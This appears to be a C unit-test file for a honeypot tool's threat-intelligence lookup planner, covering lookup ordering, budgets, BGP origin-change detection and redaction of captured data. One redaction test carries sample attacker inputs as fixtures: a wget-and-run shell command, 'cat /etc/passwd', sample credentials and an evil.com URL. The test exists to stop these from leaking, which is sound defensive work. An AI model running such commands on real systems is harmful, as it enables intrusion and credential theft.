/* test_plan.c - what is asked: what could change the verdict, within the budget, the same for the same case; and nothing about those who must not be told of. */
#include "testing.h"

#include "online.h"

#include <stdlib.h>

static struct online world;

static int
begin(void **state)
{
	online_begin(&world);
	*state = &world;
	return 0;
}

static int
end(void **state)
{
	(void)state;
	online_end(&world);
	return 0;
}

#define EVERYTHING (1u << BRANCH_BGP | 1u << BRANCH_GEO | 1u << BRANCH_INTEL)
static const double thresholds[] = { 0.5, 0.8 };

static struct tools_source *
sources(struct online *w, const char *list, size_t *n)
{
	struct tools_source *ret = ARENA_ARRAY(w->arena, 64, struct tools_source);
	struct sv rest = sv_from(list);

	for (*n = 0; rest.data != NULL; (*n)++)
		assert_true(addr_parse(sv_cut(&rest, ' '), &ret[*n].address));
	return ret;
}

static struct tools_campaign
campaign(struct online *w, double confidence, const char *list)
{
	struct tools_campaign c = {
		.id = SV("c1"), .confidence = confidence, .wants_asn = true, .wants_intel = true
	};

	c.sources = sources(w, list, &c.n_sources);
	return c;
}

static struct tools_case
about(const struct tools_campaign *campaigns, size_t n)
{
	return (struct tools_case){ .campaigns = campaigns,
		.n_campaigns = n,
		.thresholds = thresholds,
		.n_thresholds = COUNT_OF(thresholds),
		.from_us = ONLINE_NOW - 3600 * TIME_SECOND,
		.to_us = ONLINE_NOW };
}

/** "key key ...", in order. */
static const char *
plan_text(struct online *w, const struct tools_case *ask_about, unsigned branches,
    const struct tools_answer *known, size_t n_known)
{
	struct buf text = BUF_INIT(1 << 16);
	struct tools_plan plan;
	const char *copy;

	assert_int_equal(
	    tools_plan(w->tools, ask_about, branches, known, n_known, w->arena, &plan, &w->err),
	    COORD_OK);
	for (size_t i = 0; i < plan.n; i++)
		buf_printf(&text, "%s%.*s", i > 0 ? " " : "", SV_ARG(plan.lookups[i].key));
	copy = arena_strdup(w->arena, buf_sv(&text));
	buf_clear(&text);
	return copy;
}

static void
test_nothing_is_named(void **state)
{
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7");
	struct tools_case a = about(&c, 1);

	w->tools = online_tools(w, "", "", NULL);
	assert_int_equal(tools_count(w->tools), 0);
	assert_string_equal(plan_text(w, &a, EVERYTHING, NULL, 0), "");
}

static void
test_order_and_duplicates(void **state)
{
	struct online *w = *state;
	struct tools_campaign one[2], other[2];
	struct tools_case a, b;
	const char *expected = "cymru/origin/45.9.20.0/24 cymru/origin/45.9.21.0/24 "
			       "isc/ip/45.9.20.7 isc/ip/45.9.20.9 isc/ip/45.9.21.1";

	w->tools = online_tools(w, "isc,cymru", "", NULL);
	one[0] = campaign(w, 0.5, "45.9.20.7 45.9.20.9 45.9.21.1");
	one[1] = campaign(w, 0.5, "45.9.20.9");
	other[0] = campaign(w, 0.5, "45.9.21.1 45.9.20.9 45.9.20.7");
	other[1] = campaign(w, 0.5, "45.9.20.9");
	a = about(one, 1);
	b = about(other, 1);
	assert_string_equal(plan_text(w, &a, EVERYTHING, NULL, 0), expected);
	assert_string_equal(plan_text(w, &b, EVERYTHING, NULL, 0), expected);
	assert_string_equal(plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0),
	    "isc/ip/45.9.20.7 isc/ip/45.9.20.9 isc/ip/45.9.21.1");
	/* a second campaign with a source of the first asks nothing more */
	a = about(one, 2);
	assert_int_equal(strlen(plan_text(w, &a, EVERYTHING, NULL, 0)), strlen(expected));
}

/* One spelling for one thing; what served a payload is asked about, and what a password may be in is not. */
static void
test_observables(void **state)
{
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7");
	struct tools_case a = about(&c, 1);
	const struct sv hashes[] = { SV("0123456789ABCDEF0123456789abcdef"),
		SV("0123456789abcdef0123456789abcdef"), SV("no hash") };
	const struct sv urls[] = { SV("http://45.9.22.8/x.sh"), SV("HTTP://45.9.22.8/y.sh"),
		SV("http://root:hunter2@45.9.23.1/z"), SV("http://10.0.0.1/x") };

	w->tools = online_tools(w, "isc,malwarebazaar", "\"key\":\"k\"", NULL);
	c.hashes = hashes;
	c.n_hashes = COUNT_OF(hashes);
	c.urls = urls;
	c.n_urls = COUNT_OF(urls);
	assert_string_equal(plan_text(w, &a, EVERYTHING, NULL, 0),
	    "isc/ip/45.9.20.7 isc/ip/45.9.22.8 "
	    "malwarebazaar/get_info/0123456789abcdef0123456789abcdef");
}

static void
test_what_cannot_change_the_verdict_is_not_asked(void **state)
{
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.02, "45.9.20.7");
	struct tools_campaign two[2];
	struct tools_case a = about(&c, 1);
	struct tools_source *known;

	w->tools = online_tools(w, "isc,cymru", "", NULL);
	c.wants_intel = c.wants_asn = false;
	assert_string_equal(plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0),
	    "isc/ip/45.9.20.7"); /* 0.48 from a threshold: little, not nothing */
	known = sources(w, "45.9.20.7", &c.n_sources);
	known->in_feed = true;
	known->asn = 3045;
	known->prefix = SV("45.9.20.0/24");
	c.sources = known;
	assert_string_equal(plan_text(w, &a, EVERYTHING, NULL, 0), ""); /* and files know it all */
	/* the one near a threshold comes first */
	two[0] = campaign(w, 0.99, "45.9.20.7");
	two[1] = campaign(w, 0.51, "45.9.30.7");
	a = about(two, 2);
	assert_string_equal(
	    plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0), "isc/ip/45.9.30.7 isc/ip/45.9.20.7");
}

static void
test_the_budget(void **state)
{
	static const char *const two[] = { "COORD_LOOKUPS_MOST=2", NULL }, *const none[] = {
		"COORD_LOOKUPS_MOST=0", NULL
	};
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.1 45.9.20.3 45.9.20.5 45.9.20.7");
	struct tools_case a = about(&c, 1);
	struct tools_plan plan;
	struct tools_answer *answers;

	w->tools = online_tools(w, "isc", "", two);
	assert_int_equal(
	    tools_plan(w->tools, &a, EVERYTHING, NULL, 0, w->arena, &plan, &w->err), COORD_OK);
	assert_int_equal(plan.n, 2);
	assert_int_equal(plan.wanted, 4);
	/* what was asked counts: the second plan of the same analysis is empty */
	assert_int_equal(
	    tools_ask(w->tools, plan.lookups, plan.n, NULL, w->arena, &answers, &w->err), COORD_OK);
	assert_string_equal(plan_text(w, &a, EVERYTHING, answers, 2), "");
	tools_close(w->tools);
	w->tools = online_tools(w, "isc", "", none);
	assert_string_equal(plan_text(w, &a, EVERYTHING, NULL, 0), "");
}

static void
test_many_go_by_whois(void **state)
{
	struct online *w = *state;
	struct tools_campaign c = { .confidence = 0.5, .wants_asn = true, .n_sources = 40 };
	struct tools_source *list = ARENA_ARRAY(w->arena, 40, struct tools_source);
	struct tools_case a = about(&c, 1);
	const char *text;

	c.sources = list;
	for (uint32_t i = 0; i < 40; i++)
		list[i].address = addr_from_v4(0x2d091400u + 256 * i + 7);
	w->tools = online_tools(w, "cymru,cymru-whois", "", NULL);
	text = plan_text(w, &a, EVERYTHING, NULL, 0);
	assert_true(sv_has(sv_from(text), SV("cymru-whois/origin/45.9.20.0/24")));
	assert_false(sv_has(sv_from(text), SV("cymru/origin")));
	c.n_sources = 3;
	text = plan_text(w, &a, EVERYTHING, NULL, 0);
	assert_string_equal(
	    text, "cymru/origin/45.9.20.0/24 cymru/origin/45.9.21.0/24 cymru/origin/45.9.22.0/24");
}

/** Plans and asks until there is nothing left to ask. */
static struct tools_answer *
run(struct online *w, const struct tools_case *a, unsigned branches, size_t *n)
{
	struct tools_answer *all = ARENA_ARRAY(w->arena, 256, struct tools_answer), *some;
	struct tools_ask_options options = { .ask_about = a };
	struct tools_plan plan;

	*n = 0;
	for (unsigned rounds = 0; rounds < 8; rounds++) {
		assert_int_equal(
		    tools_plan(w->tools, a, branches, all, *n, w->arena, &plan, &w->err), COORD_OK);
		if (plan.n == 0)
			return all;
		assert_int_equal(
		    tools_ask(w->tools, plan.lookups, plan.n, &options, w->arena, &some, &w->err),
		    COORD_OK);
		assert_true(*n + plan.n <= 256);
		memcpy(all + *n, some, plan.n * sizeof(*all));
		*n += plan.n;
	}
	fail_msg("plans do not end");
	return NULL;
}

static void
write_groups(struct jsonw *w, const char *key, const struct tools_bgp_group *groups, size_t n)
{
	jsonw_key(w, key);
	jsonw_array(w);
	for (size_t i = 0; i < n; i++) {
		jsonw_object(w);
		jsonw_key(w, "key");
		jsonw_sv(w, groups[i].key);
		jsonw_key(w, "sources");
		jsonw_u64(w, groups[i].sources);
		jsonw_end(w);
	}
	jsonw_end(w);
}

static void
write_event(struct jsonw *w, const struct tools_bgp_event *event)
{
	static const char *const names[] = { "origin_change", "several_origins", "rpki_invalid" };
	char time[TIME_TEXT_MAX];

	jsonw_object(w);
	jsonw_key(w, "event");
	jsonw_str(w, names[event->what]);
	jsonw_key(w, "prefix");
	jsonw_sv(w, event->prefix);
	jsonw_key(w, "asn");
	jsonw_u64(w, event->asn);
	if (event->before != 0) {
		jsonw_key(w, "before");
		jsonw_u64(w, event->before);
	}
	if (event->from_us != 0) {
		time_format(event->from_us, true, time);
		jsonw_key(w, "since");
		jsonw_str(w, time);
	}
	jsonw_key(w, "provider");
	jsonw_str(w, event->provider);
	jsonw_key(w, "lookup");
	jsonw_sv(w, event->key);
	jsonw_end(w);
}

static void
write_bgp(struct jsonw *w, const struct tools_bgp *bgp)
{
	jsonw_object(w);
	jsonw_key(w, "known_sources");
	jsonw_u64(w, bgp->known);
	write_groups(w, "same_prefix", bgp->prefixes, bgp->n_prefixes);
	write_groups(w, "same_origin", bgp->origins, bgp->n_origins);
	write_groups(w, "shared_upstream", bgp->upstreams, bgp->n_upstreams);
	jsonw_key(w, "events");
	jsonw_array(w);
	for (size_t i = 0; i < bgp->n_events; i++)
		write_event(w, &bgp->events[i]);
	jsonw_end(w);
	jsonw_end(w);
}

static void
test_follow_ups_and_bgp(void **state)
{
	/* 45.9.21.0/24 went to AS3999 an hour before the sessions' end, and RPKI does not know it there */
	static const char history[] =
	    "{\"answers\":{"
	    "\"network-info "
	    "45.9.21.1\":{\"status\":\"ok\",\"data\":{\"asns\":[\"3999\"],\"prefix\":\"45.9.21.0/"
	    "24\"}},"
	    "\"routing-history 45.9.21.0/24\":{\"status\":\"ok\",\"data\":{\"by_origin\":["
	    "{\"origin\":\"3045\",\"prefixes\":[{\"prefix\":\"45.9.21.0/"
	    "24\",\"timelines\":[{\"starttime\":\"2020-01-01T00:00:00\","
	    "\"endtime\":\"2026-01-05T11:00:00\"}]}]},"
	    "{\"origin\":\"AS3999\",\"prefixes\":[{\"prefix\":\"45.9.21.0/"
	    "24\",\"timelines\":[{\"starttime\":\"2026-01-05 11:30:00\","
	    "\"endtime\":\"2026-01-05 12:00:00\"}]}]}]}},"
	    "\"rpki-validation AS3999 "
	    "45.9.21.0/24\":{\"status\":\"ok\",\"data\":{\"status\":\"invalid_asn\"}}}}";
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7 45.9.20.9 45.9.21.1");
	struct tools_case a = about(&c, 1);
	struct buf json = BUF_INIT(1 << 16);
	struct jsonw writer = jsonw_init(&json, false);
	struct tools_answer *answers;
	struct tools_bgp bgp;
	size_t n;

	w->tools = online_tools(w, "ripestat,cymru", "", NULL);
	online_control(w, "ripestat", history);
	answers = run(w, &a, 1u << BRANCH_BGP, &n);
	assert_int_equal(tools_bgp(&a, 0, answers, n, w->arena, &bgp, &w->err), COORD_OK);
	write_bgp(&writer, &bgp);
	assert_string_equal(buf_cstr(&json),
	    "{\"known_sources\":3,\"same_prefix\":[{\"key\":\"45.9.20.0/"
	    "24\",\"sources\":2}],\"same_origin\":[{\"key\":\"AS3045\",\"sources\":3}],"
	    "\"shared_upstream\":[{\"key\":\"AS1239\",\"sources\":3},{\"key\":\"AS174\","
	    "\"sources\":3},{\"key\":\"AS701\",\"sources\":3}],"
	    "\"events\":[{\"event\":\"origin_change\",\"prefix\":\"45.9.21.0/"
	    "24\",\"asn\":3999,\"before\":3045,\"since\":\"2026-01-05T11:30:00Z\","
	    "\"provider\":\"ripestat\",\"lookup\":\"ripestat/routing-history/45.9.21.0/24\"},"
	    "{\"event\":\"rpki_invalid\",\"prefix\":\"45.9.21.0/"
	    "24\",\"asn\":3999,\"provider\":\"ripestat\",\"lookup\":\"ripestat/rpki-validation/"
	    "AS3999 "
	    "45.9.21.0/24\"}]}");
	buf_clear(&json);
}

static struct tools_answer
made(const char *provider, const char *call, enum tools_kind kind, const char *text,
    const struct tools_fact *facts, size_t n)
{
	return (
	    struct tools_answer){ .lookup = { .question = { .kind = kind, .text = sv_from(text) },
				      .provider = provider,
				      .call = call,
				      .branch = BRANCH_BGP,
				      .key = sv_from(text) },
		.outcome = LOOKUP_HIT,
		.facts = facts,
		.n_facts = n };
}

static void
test_changes_outside_the_window_are_none(void **state)
{
	static const struct {
		const char *stays[3];
		const char *event;
	} rows[] = {
		/* the new origin came years ago */
		{ { "AS1 45.9.20.0/24 0 1000000000000000",
		      "AS2 45.9.20.0/24 1000000000000001 1767614400000000" },
		    "" },
		/* the same origin came back */
		{ { "AS1 45.9.20.0/24 0 1767600000000000",
		      "AS1 45.9.20.0/24 1767610000000000 1767614400000000" },
		    "" },
		/* for the first time */
		{ { "AS1 45.9.20.0/24 1767610000000000 1767614400000000" }, "" },
		/* behind the sessions */
		{ { "AS1 45.9.20.0/24 0 1767600000000000",
		      "AS2 45.9.20.0/24 1767614400000001 1767614500000000" },
		    "" },
		{ { "AS1 45.9.20.0/24 0 1767600000000000",
		      "AS2 45.9.20.0/24 1767610000000000 1767614400000000" },
		    "change 2 1" },
		{ { "AS2 45.9.20.0/24 1767610000000000 1767614400000000",
		      "AS1 45.9.20.0/24 0 1767600000000000" },
		    "change 2 1" },
		{ { "AS1 45.9.20.0/24 0 1767614400000000",
		      "AS2 45.9.20.0/24 1767610000000000 1767614400000000" },
		    "several 2 1" },
		{ { "nonsense", "AS1 45.9.20.0/24 0", "AS2" }, "" },
	};
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7 45.9.20.9");
	struct tools_case a = about(&c, 1);

	for (size_t i = 0; i < COUNT_OF(rows); i++) {
		struct tools_fact facts[3];
		struct tools_answer answer;
		struct tools_bgp bgp;
		size_t n = 0;
		const char *got = "";

		for (; n < 3 && rows[i].stays[n] != NULL; n++)
			facts[n] = (struct tools_fact){ .name = FACT_ORIGIN,
				.type = FACT_IS_TEXT,
				.text = sv_from(rows[i].stays[n]) };
		answer = made("ripestat", "routing-history", ASK_PREFIX, "45.9.20.0/24", facts, n);
		assert_int_equal(tools_bgp(&a, 0, &answer, 1, w->arena, &bgp, &w->err), COORD_OK);
		if (bgp.n_events > 0)
			got = arena_printf(w->arena, "%s %u %u",
			    bgp.events[0].what == BGP_ORIGIN_CHANGE ? "change" : "several",
			    bgp.events[0].asn, bgp.events[0].before);
		if (bgp.n_events > 1 || strcmp(got, rows[i].event) != 0)
			fail_msg("row %zu: %zu events, %s", i, bgp.n_events, got);
		/* another campaign's prefix is none of ours */
		answer.lookup.question.text = SV("45.9.99.0/24");
		assert_int_equal(tools_bgp(&a, 0, &answer, 1, w->arena, &bgp, &w->err), COORD_OK);
		assert_int_equal(bgp.n_events, 0);
	}
}

static void
test_the_longest_prefix_counts(void **state)
{
	static const struct tools_fact
	    wide[] = { { .name = FACT_ASN, .type = FACT_IS_WHOLE, .number = 1 },
		    { .name = FACT_PREFIX, .text = { "45.9.0.0/16", 11 } } },
	    narrow[] = { { .name = FACT_ASN, .type = FACT_IS_WHOLE, .number = 2 },
		    { .name = FACT_PREFIX, .text = { "45.9.20.0/24", 12 } } };
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7 45.9.20.9 45.9.30.1");
	struct tools_case a = about(&c, 1);
	struct tools_answer answers[2] = { made("cymru", "origin", ASK_PREFIX, "45.9.20.0/24", wide,
					       2),
		made("cymru", "origin", ASK_PREFIX, "45.9.20.0/24", narrow, 2) };
	struct tools_bgp bgp;

	assert_int_equal(tools_bgp(&a, 0, answers, 2, w->arena, &bgp, &w->err), COORD_OK);
	assert_int_equal(bgp.known, 3); /* the third by the wide one */
	assert_int_equal(bgp.n_prefixes, 1);
	assert_sv_equal(bgp.prefixes[0].key, "45.9.20.0/24");
	assert_int_equal(bgp.prefixes[0].sources, 2);
	assert_int_equal(bgp.n_origins, 1);
	assert_sv_equal(bgp.origins[0].key, "AS2");
}

static void
test_status(void **state)
{
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7 45.9.20.8");
	struct tools_case a = about(&c, 1);
	struct buf json = BUF_INIT(1 << 16);
	struct jsonw writer = jsonw_init(&json, false);
	struct tools_answer *answers;
	struct tools_status *status;
	size_t n, n_status;

	w->tools = online_tools(w, "isc,ripestat,cymru", "", NULL);
	online_control(w, "ripestat", "{\"faults\":[\"*status:500\"]}");
	answers = run(w, &a, 1u << BRANCH_INTEL | 1u << BRANCH_BGP, &n);
	assert_int_equal(
	    tools_status(w->tools, answers, n, w->arena, &status, &n_status, &w->err), COORD_OK);
	assert_int_equal(n_status, 3);
	tools_status_write(&writer, status, n_status);
	assert_true(
	    sv_has(buf_sv(&json), SV("\"isc\":{\"status\":\"ok\",\"asked\":2,\"answered\":2,"
				     "\"hits\":1,\"misses\":1,\"cached\":0,\"failed\":0}")));
	assert_true(sv_has(buf_sv(&json), SV("\"ripestat\":{\"status\":\"down\"")));
	assert_true(sv_has(buf_sv(&json), SV("\"why\":\"")));
	buf_clear(&json);
}

static void
test_nothing_captured_leaves(void **state)
{
	static const char *const names[] = { "isc", "ripestat", "cymru", "cymru-whois" };
	/* everything that a case could bring along, with the sensor in each of its forms */
	const struct sv hashes[] = { SV("root:123456"), SV("P@ssw0rd!"),
		SV("wget http://45.9.20.7/a.sh; sh a.sh") };
	const struct sv urls[] = { SV("http://root:hunter2@45.9.20.7/x"),
		SV("http://45.9.20.7/x?user=admin&pw=hunter2"), SV("http://10.0.0.5/x"),
		SV("http://45.9.20.7/for/45.9.50.5/x"), SV("http://sensor.internal/x"),
		SV("http://45-9-50-5.evil.com/") };
	const struct sv domains[] = { SV("honeypot.lan"), SV("45-9-50-5.evil.com"), SV("localhost"),
		SV("cat /etc/passwd") };
	static const char *const never[] = { "45.9.50.5", "5.50.9.45", "50.9.45.origin", "10.0.0.5",
		"192.168", "root", "123456", "hunter2", "ssw0rd", "wget", "passwd", "internal",
		"honeypot", "45-9-50-5", "45.9.40." };
	static const char *const settings[] = { "COORD_OWN_PREFIXES=45.9.40.0/24", NULL };
	struct online *w = *state;
	struct tools_campaign c = campaign(
	    w, 0.5, "45.9.20.7 45.9.50.5 45.9.40.7 10.0.0.5 192.168.1.1 127.0.0.1 45.9.50.9");
	struct tools_case a = about(&c, 1);
	struct addr sensor;
	size_t n;

	assert_true(addr_parse(SV("45.9.50.5"), &sensor));
	a.never = &sensor;
	a.n_never = 1;
	c.hashes = hashes;
	c.n_hashes = COUNT_OF(hashes);
	c.urls = urls;
	c.n_urls = COUNT_OF(urls);
	c.domains = domains;
	c.n_domains = COUNT_OF(domains);
	w->tools = online_tools(w, "isc,ripestat,cymru,cymru-whois", "", settings);
	(void)run(w, &a, EVERYTHING, &n);
	assert_true(n >= 4);
	for (size_t i = 0; i < COUNT_OF(names); i++) {
		struct sv requests = online_requests(w, names[i]);

		for (size_t k = 0; k < COUNT_OF(never); k++)
			if (sv_has(requests, sv_from(never[k])))
				fail_msg("%s was told \"%s\": %.*s", names[i], never[k],
				    SV_ARG(requests));
	}
	assert_int_equal(online_count(w, "isc"), 2); /* 45.9.20.7 and the sensor's neighbour */
}

static void
test_bystanders_are_asked_all_or_none(void **state)
{
	static const char *const little[] = { "COORD_LOOKUPS_MOST=4", NULL };
	struct online *w = *state;
	struct tools_campaign c = campaign(w, 0.5, "45.9.20.7 45.9.20.9");
	struct tools_case a = about(&c, 1);
	struct addr others[4];
	struct tools_answer *answers;
	size_t n;
	bool covers;

	assert_true(
	    addr_parse(SV("45.9.60.1"), &others[0]) && addr_parse(SV("45.9.61.2"), &others[1]) &&
	    addr_parse(SV("10.0.0.1"), &others[2]) && addr_parse(SV("45.9.62.3"), &others[3]));
	a.others = others;
	a.n_others = 4;
	w->tools = online_tools(w, "isc,cymru", "", NULL);
	assert_string_equal(plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0),
	    "isc/ip/45.9.20.7 isc/ip/45.9.20.9 isc/ip/45.9.60.1 isc/ip/45.9.61.2 isc/ip/45.9.62.3");
	answers = run(w, &a, 1u << BRANCH_INTEL | 1u << BRANCH_BGP, &n);
	assert_int_equal(tools_covers(answers, n, "isc", others, 4, &covers, &w->err), COORD_OK);
	assert_true(covers);
	assert_int_equal(tools_covers(answers, n, "cymru", others, 4, &covers, &w->err), COORD_OK);
	assert_true(covers); /* by their prefixes */
	assert_int_equal(
	    tools_covers(answers, n, "ripestat", others, 4, &covers, &w->err), COORD_OK);
	assert_false(covers);
	assert_true(addr_parse(SV("45.9.63.3"), &others[0]));
	assert_int_equal(tools_covers(answers, n, "isc", others, 4, &covers, &w->err), COORD_OK);
	assert_false(covers);
	assert_false(sv_has(
	    online_requests(w, "cymru"), SV("60.9.45.peer"))); /* bystanders have no follow-ups */
	tools_close(w->tools);
	w->tools = online_tools(w, "isc", "", little);
	assert_string_equal(
	    plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0), "isc/ip/45.9.20.7 isc/ip/45.9.20.9");
	tools_close(w->tools);
	w->tools = online_tools(w, "isc", "\"per_day\":2", NULL);
	assert_string_equal(
	    plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0), "isc/ip/45.9.20.7 isc/ip/45.9.20.9");
	/* nobody is a bystander of nothing */
	a.n_campaigns = 0;
	assert_string_equal(plan_text(w, &a, 1u << BRANCH_INTEL, NULL, 0), "");
}

#define ONLINE_TEST(test) cmocka_unit_test_setup_teardown(test, begin, end)

int
main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		ONLINE_TEST(test_nothing_is_named),
		ONLINE_TEST(test_order_and_duplicates),
		ONLINE_TEST(test_observables),
		ONLINE_TEST(test_what_cannot_change_the_verdict_is_not_asked),
		ONLINE_TEST(test_the_budget),
		ONLINE_TEST(test_many_go_by_whois),
		ONLINE_TEST(test_follow_ups_and_bgp),
		ONLINE_TEST(test_changes_outside_the_window_are_none),
		ONLINE_TEST(test_the_longest_prefix_counts),
		ONLINE_TEST(test_status),
		ONLINE_TEST(test_bystanders_are_asked_all_or_none),
		ONLINE_TEST(test_nothing_captured_leaves),
	};
	int failed;

	if (argc != 2)
		return 2;
	online_start(&world, argv[1]);
	failed = cmocka_run_group_tests_name("tools/plan", tests, NULL, NULL);
	online_stop(&world);
	return failed;
}
